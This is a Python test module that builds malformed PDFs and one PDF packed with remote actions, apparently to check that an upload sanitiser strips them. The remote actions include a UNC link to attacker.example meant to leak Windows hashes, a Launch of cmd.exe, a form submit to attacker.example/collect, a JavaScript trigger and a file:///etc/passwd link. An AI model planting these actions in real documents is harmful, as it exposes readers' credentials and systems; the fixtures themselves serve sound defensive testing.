"""Real-world PDFs that readers open though they are not quite right, and PDFs with remote actions.

Made by hand like hostile.py's files: each reproduces a kind of file a corpus of real PDFs
had (a broken object nobody needs, bytes after the end marker, no end marker, junk before
the header, a page-tree cycle on one page), or carries every kind of action that reaches
outside the file (a reader would open a UNC path, post a form, run a program or a script).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from tests.documents.hostile import _pdf_bytes, _stream, fitz, write_pdf

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page(content: int, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
        b"/Contents %d 0 R %s >>" % (content, extra)
    )


def _text(words: bytes) -> bytes:
    return _stream(b"BT /F1 24 Tf 72 720 Td (%s) Tj ET" % words)


def two_pages() -> bytes:
    """A good two-page PDF: "First page", "Second page"."""
    return bytes(
        _pdf_bytes([
            CATALOG, b"<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>", FONT,
            _page(5), _text(b"First page"), _page(7), _text(b"Second page"),
        ])
    )  # fmt: skip


def broken_object_pdf(path: Path) -> Path:
    """Two good pages, and objects MuPDF cannot parse that drawing never needs: one nobody refers
    to ("invalid key in dict"), one the catalog names as /PieceInfo, an annotation with an
    unterminated string, and an xref entry that points into the middle of a stream."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /PieceInfo 8 0 R >>",
        b"<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>",
        FONT,
        _page(5, b"/Annots [9 0 R]"),
        _text(b"First page"),
        _page(7),
        _text(b"Second page"),
        b"<< 1 2 3 >>",
        b"<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Contents (unterminated >>",
        b"<< /Unused true >>",
    ]
    data = _pdf_bytes(objects)
    entries = list(re.finditer(rb"(\d{10}) 00000 n \n", bytes(data)))
    start = entries[9].start(1)  # object 10: into the bytes of page 1's text
    data[start : start + 10] = b"%010d" % (bytes(data).find(b"First page") + 3)
    path.write_bytes(bytes(data))
    return path


def prefilled_form_pdf(path: Path) -> Path:
    """A filled-in form with comments, as a tax form or a reviewed draft comes: a text field with a
    name, a ticked box, a highlight and a sticky note; then saved again by a tool that left an
    object it could not write ("syntax error": an unterminated dictionary), as real ones do."""
    with fitz.open() as doc:
        page = doc.new_page()
        page.insert_text((72, 72), "Application for a school building grant", fontsize=14)
        field = fitz.Widget()
        field.field_type = fitz.PDF_WIDGET_TYPE_TEXT
        field.field_name = "applicant"
        field.field_value = "Somchai Jaidee"
        field.rect = fitz.Rect(72, 100, 300, 124)
        page.add_widget(field)
        box = fitz.Widget()
        box.field_type = fitz.PDF_WIDGET_TYPE_CHECKBOX
        box.field_name = "agreed"
        box.field_value = True
        box.rect = fitz.Rect(72, 140, 90, 158)
        page.add_widget(box)
        page.add_highlight_annot(fitz.Rect(72, 58, 300, 76))
        page.add_text_annot((320, 100), "Please check the amount")
        data = doc.tobytes()
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    return _append(path, data, {size: b"<< /Producer (scanner) /Broken << /A 1 >"})


def trailing_data_pdf(path: Path) -> Path:
    """Two pages, then 4 KB after %%EOF (a mail gateway's signature, padding, a second file)."""
    path.write_bytes(two_pages() + b"\r\n" + bytes(range(256)) * 16)
    return path


def no_eof_pdf(path: Path) -> Path:
    """Two whole pages whose writer never put the %%EOF end marker."""
    path.write_bytes(two_pages().replace(b"%%EOF\n", b""))
    return path


def junk_before_pdf(path: Path) -> Path:
    """Two pages after 2 KB of binary junk (a mail or web wrapper left in front of %PDF-)."""
    path.write_bytes(b"%\xff\xfe\x00junk" + bytes(range(256)) * 8 + b"\n" + two_pages())
    return path


def page_tree_cycle_pdf(path: Path) -> Path:
    """Two pages; the second is a page-tree node that names its own parent as its child."""
    return write_pdf(
        path,
        [
            CATALOG, b"<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>", FONT, _page(5), _text(b"First page"),
            b"<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [2 0 R] >>",
        ],
    )  # fmt: skip


REMOTE = ("GoToR", "GoToE", "Launch", "SubmitForm", "ImportData", "JavaScript", "Thread")
"""Action types that reach outside the file (or run code): none may survive the upload."""
UNC = r"\\\\attacker.example\\share\\leak.pdf"  # a Windows reader opens it and sends the user's hash


def remote_actions_pdf(path: Path) -> Path:
    """Every kind of action that leaves the file, where readers find them: link annotations, the
    document's open action, page and field triggers (/AA), bookmarks, a form's submit button,
    and an action chain (/Next); plus the ordinary links that must stay: a web page, a mail
    address, a page of the same file."""
    with fitz.open() as doc:
        doc.new_page().insert_text((72, 72), "Remote actions")
        doc.new_page().insert_text((72, 72), "Second page")
        page = doc[0]
        catalog = doc.pdf_catalog()
        doc.xref_set_key(catalog, "OpenAction", "<< /S /URI /URI (http://tracker.example/opened) >>")
        doc.xref_set_key(page.xref, "AA", f"<< /O << /S /GoToR /F ({UNC}) /D [0 /Fit] >> >>")
        actions = [
            f"<< /S /GoToR /F ({UNC}) /D [0 /Fit] >>",
            "<< /S /GoToE /T << /R /C /N (attached) >> /D [0 /Fit] >>",
            "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
            f"<< /S /ImportData /F ({UNC}) >>",
            "<< /S /URI /URI (file:///etc/passwd) >>",
            f"<< /S /URI /URI ({UNC}) >>",
            f"<< /S /Thread /F ({UNC}) /D 0 >>",
            f"<< /S /GoTo /D [{page.xref} 0 R /Fit] /Next << /S /GoToR /F ({UNC}) /D [0 /Fit] >> >>",
            "<< /S /URI /URI (https://example.org/budget) >>",
            "<< /S /URI /URI (mailto:secretary@example.org) >>",
        ]
        annots = [
            _new_object(doc, f"<< /Type /Annot /Subtype /Link /Rect [72 {100 + 20 * n} 200 {115 + 20 * n}] /A {a} >>")
            for n, a in enumerate(actions)
        ]
        submit = _new_object(
            doc,
            "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [300 100 400 120] "
            "/A << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/collect) >> >> "
            f"/AA << /K << /S /JavaScript /JS (app.alert(1)) >> >> /P {page.xref} 0 R >>",
        )
        doc.xref_set_key(page.xref, "Annots", "[" + " ".join(f"{a} 0 R" for a in [*annots, submit]) + "]")
        doc.xref_set_key(catalog, "AcroForm", f"<< /Fields [{submit} 0 R] >>")
        outline = _new_object(doc, "<< /Type /Outlines /Count 2 >>")
        first = _new_object(
            doc,
            f"<< /Title (Minutes on the share) /Parent {outline} 0 R /A << /S /GoToR /F ({UNC}) /D [0 /Fit] >> >>",
        )
        second = _new_object(
            doc, f"<< /Title (Budget) /Parent {outline} 0 R /Prev {first} 0 R /A << /S /URI /URI ({UNC}) >> >>"
        )
        doc.xref_set_key(first, "Next", f"{second} 0 R")
        doc.xref_set_key(outline, "First", f"{first} 0 R")
        doc.xref_set_key(outline, "Last", f"{second} 0 R")
        doc.xref_set_key(catalog, "Outlines", f"{outline} 0 R")
        doc.save(path)
    return path


def objects_of(data: bytes) -> list[str]:
    """The text of every object of a PDF as PyMuPDF reads it (object streams unpacked too)."""
    with fitz.open(stream=data, filetype="pdf") as doc:
        return [str(doc.xref_object(xref, compressed=True)) for xref in range(1, int(doc.xref_length()))]


def remote_traces(data: bytes) -> list[str]:
    """What is left of remote actions in a PDF: in its objects, and in its raw bytes."""
    found = []
    for text in objects_of(data):
        found += [f"/S/{kind}" for kind in REMOTE if re.search(rf"/S\s*/{kind}\b", text)]
        found += [word for word in ("/JS", "/AA", "attacker.example", "tracker.example", "file:") if word in text]
    raw = data.decode("latin-1")
    found += [
        f"raw {word}"
        for word in ("GoToR", "GoToE", "Launch", "SubmitForm", "ImportData", "attacker.example")
        if word in raw
    ]
    return found


def _new_object(doc: Any, source: str) -> int:
    xref = int(doc.get_new_xref())
    doc.update_object(xref, source)
    return xref


def _append(path: Path, data: bytes, objects: dict[int, bytes]) -> Path:
    """``data`` with an incremental update that adds ``objects`` (numbers at or past its /Size)."""
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    out = bytearray(data)
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max(objects) + 1
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, previous, xref)
    path.write_bytes(bytes(out))
    return path
